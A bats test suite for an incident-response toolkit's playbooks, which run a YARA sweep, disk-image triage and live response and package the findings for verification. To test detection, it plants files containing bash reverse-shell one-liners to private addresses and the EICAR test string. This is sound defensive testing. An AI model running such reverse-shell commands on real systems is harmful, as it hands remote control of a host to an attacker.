#!/usr/bin/env bats
# The playbooks (playbooks/*.sh) chain the tools on real inputs into a
# sealed package: a tree with planted files (YARA sweep), a disk image with
# a deleted planted file (image triage), this host (live response).  Each
# package is unpacked with tar and checked against what the tools saw.

load common

PB=$BATS_TEST_DIRNAME/../../playbooks
FIX=$BATS_TEST_DIRNAME/../fixtures
RULES=$BATS_TEST_DIRNAME/../../rules

setup() {
	irkit_setup
	command -v yara >/dev/null || skip "yara is not installed"
	for t in ir-pack ir-verify; do
		[ -x "$IRKIT_BIN/$t" ] || fail "no $t in $IRKIT_BIN"
	done
}

# playbook STATUS NAME ARGS...: run playbooks/NAME.sh with the tools under
# test; stdout (the package path) in ./pkg.out, stderr in ./stderr.
# STATUS may list several ("1 3": a scan of every process may meet one it
# cannot read, which is said and makes the result incomplete).
playbook() {
	local want=$1 name=$2 rc=0
	shift 2
	IRKIT_BIN=$IRKIT_BIN sh "$PB/$name.sh" "$@" >pkg.out \
	    2>"$BATS_TEST_TMPDIR/stderr" || rc=$?
	check_sanitizer "$BATS_TEST_TMPDIR/stderr"
	if [[ " $want " != *" $rc "* ]]; then
		sed 's/^/stderr: /' "$BATS_TEST_TMPDIR/stderr" >&2
		fail "$name.sh $*: exit $rc, want $want"
	fi
}

# unpack PKG DIR: extract with GNU tar; DIR/data is the case directory.
unpack() {
	mkdir -p "$2"
	tar -xzf "$1" -C "$2" || fail "tar cannot extract $1"
	local top
	top=$(ls "$2")
	[ "$(printf '%s\n' "$top" | wc -l)" -eq 1 ] || fail "top level: $top"
	mv "$2/$top" "$2.bag"
	rmdir "$2"
	mv "$2.bag" "$2"
	[ -f "$2/data/case.json" ] || fail "no data/case.json in $1"
	[ -f "$2/data/custody.jsonl" ] || fail "no data/custody.jsonl in $1"
}

# The tools whose actions the custody log of case DIR records, in order.
custody_tools() {
	jq -r '.tool' "$1/data/custody.jsonl" | tr '\n' ' '
}

plant_tree() {
	mkdir -p tree/sub
	printf 'bash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n' >tree/sub/rs.sh
	printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' \
	    >tree/eicar.com
	printf 'nothing to see\n' >tree/plain.txt
}

@test "yara-sweep: planted files matched, the package verifies and unpacks with tar" {
	plant_tree
	playbook 1 yara-sweep -e "Jane Doe" sweep1 out tree
	local pkg
	pkg=$(tail -n 1 pkg.out)
	assert_eq "$pkg" "$PWD/out/sweep1.tar.gz" "package path"
	assert_stderr "package: $PWD/out/sweep1.tar.gz"
	gunzip -t "$pkg"
	run_tool 0 verify.out ir-verify "$pkg"
	unpack "$pkg" bag
	assert_eq "$(custody_tools bag)" "ir-scan " "custody"
	assert_eq "$(jq -r .examiner bag/data/case.json)" "Jane Doe" "examiner"
	assert_eq "$(jq -r .case_id bag/data/case.json)" sweep1 "case id"
	assert_eq "$(cat bag/data/ir-scan-*.jsonl | jq -r 'select(.type == "match") |
	    [.rule, (.path | sub("^(.*/)?tree/"; ""))] | @tsv' | sort)" \
	    "$(printf 'irkit_eicar\teicar.com\nirkit_reverse_shell_oneliner\tsub/rs.sh')"
	# The case directory is kept next to the package, byte for byte.
	diff -r out/sweep1 bag/data
	# Same case id again: refused, nothing overwritten.
	playbook 2 yara-sweep sweep1 out tree
	assert_stderr "exists: use a new case id"
}

@test "yara-sweep: --processes and an age recipient: age -d opens the package" {
	command -v age-keygen >/dev/null || skip "age is not installed"
	plant_tree
	age-keygen -o key.txt 2>/dev/null
	local pub
	pub=$(age-keygen -y key.txt)
	playbook "1 3" yara-sweep -R "$pub" --processes sweep2 out tree
	[ -f out/sweep2.tar.gz.age ] || fail "no out/sweep2.tar.gz.age"
	[ ! -e out/sweep2.tar.gz ] || fail "a clear package was left"
	age -d -i key.txt out/sweep2.tar.gz.age >clear.tar.gz
	run_tool 0 verify.out ir-verify clear.tar.gz
	run_tool 0 verify2.out ir-verify --identity key.txt out/sweep2.tar.gz.age
	unpack clear.tar.gz bag
	assert_eq "$(custody_tools bag)" "ir-scan ir-scan " "custody"
}

@test "image-triage: a deleted planted file found, extracted as icat gives it, a timeline" {
	command -v icat >/dev/null || skip "sleuthkit is not installed"
	sh "$FIX/mkdisk-dos.sh" . || fail "mkdisk-dos.sh failed"
	printf 'rule bye { strings: $a = "bye" condition: $a }\n' >r.yar
	playbook 1 image-triage -r r.yar --from 2000-01-01 tri1 out disk.img
	local pkg=out/tri1.tar.gz
	run_tool 0 verify.out ir-verify "$pkg"
	unpack "$pkg" bag
	assert_eq "$(custody_tools bag)" "ir-walk ir-timeline ir-scan ir-cat " "custody"
	# The extracted files are in the custody log, the index too.
	jq -e 'select(.tool == "ir-cat") | .outputs[] | select(.path == "hits/index.jsonl")' \
	    bag/data/custody.jsonl >/dev/null || fail "no hits/index.jsonl in the custody log"
	jq -e 'select(.tool == "ir-cat") | .outputs[] | select(.path == "hits/p0/gone.txt")' \
	    bag/data/custody.jsonl >/dev/null || fail "no hits/p0/gone.txt in the custody log"
	# gone.txt, deleted on both partitions, extracted as icat does.
	icat -o 2048 disk.img "$(jq -r 'select(.type == "match" and .part == 0 and
	    .inode != null) | .inode' bag/data/ir-scan-*.jsonl)" >theirs
	cmp theirs bag/data/hits/p0/gone.txt
	[ -s bag/data/hits/index.jsonl ]
	[ "$(jq -s length bag/data/hits/index.jsonl)" -eq 2 ]
	# The walk has the deleted files; the timeline rows come from it.
	[ "$(jq -s '[.[] | select(.deleted)] | length' bag/data/ir-walk-*.jsonl)" -ge 2 ]
	grep -q '/gone.txt' bag/data/ir-timeline-*.csv
}

@test "live-response: this host into a verified package; every step recorded" {
	need_root
	# A small catalogue, a planted hot directory and one system directory
	# keep the run short; the defaults are the same steps over more.
	cat >cat.json <<'EOF2'
{ "category": "accounts", "description": "test",
  "artifacts": [ { "name": "passwd", "description": "accounts",
    "paths": ["/etc/passwd", "/etc/hostname"], "max_size": "1M" } ] }
EOF2
	mkdir -p "hot dir"
	printf 'bash -i >& /dev/tcp/10.9.8.7/443 0>&1\n' >"hot dir/x.sh"
	playbook "1 3" live-response -r "$RULES" -C cat.json -d "$PWD/hot dir" \
	    -w /usr/bin live1 out
	run_tool 0 verify.out ir-verify out/live1.tar.gz
	unpack out/live1.tar.gz bag
	assert_eq "$(custody_tools bag)" \
	    "ir-live ir-scan ir-collect ir-scan ir-walk " "custody"
	# ir-live saw this very shell; ir-collect copied /etc/passwd as it is;
	# the planted script matched; ir-walk hashed /usr/bin/env as sha256sum.
	jq -e -s --argjson p $$ 'any(.[]; .type == "process" and .pid == $p)' \
	    bag/data/ir-live-*.jsonl >/dev/null || fail "no process record of $$"
	cmp /etc/passwd bag/data/collect/etc/passwd
	assert_eq "$(jq -r 'select(.type == "match") | .rule' \
	    bag/data/ir-scan-*.jsonl | sort -u | grep reverse)" \
	    irkit_reverse_shell_oneliner "planted match"
	assert_eq "$(jq -r 'select(.path == "/usr/bin/env") | .sha256' bag/data/ir-walk-*.jsonl)" \
	    "$(sha256sum /usr/bin/env | cut -d' ' -f1)" "sha256 of /usr/bin/env"
}

@test "playbooks: usage errors give exit 2 and say why" {
	playbook 2 yara-sweep
	assert_stderr "usage: yara-sweep.sh"
	playbook 2 yara-sweep 'a/b' out tree
	assert_stderr "bad case id 'a/b'"
	playbook 2 yara-sweep -r nowhere.yar c1 out .
	assert_stderr "no rules at nowhere.yar"
	playbook 2 image-triage c2 out no-such.img
	assert_stderr "no image 'no-such.img'"
	playbook 2 live-response --bogus c3 out
	assert_stderr "usage: live-response.sh"
}
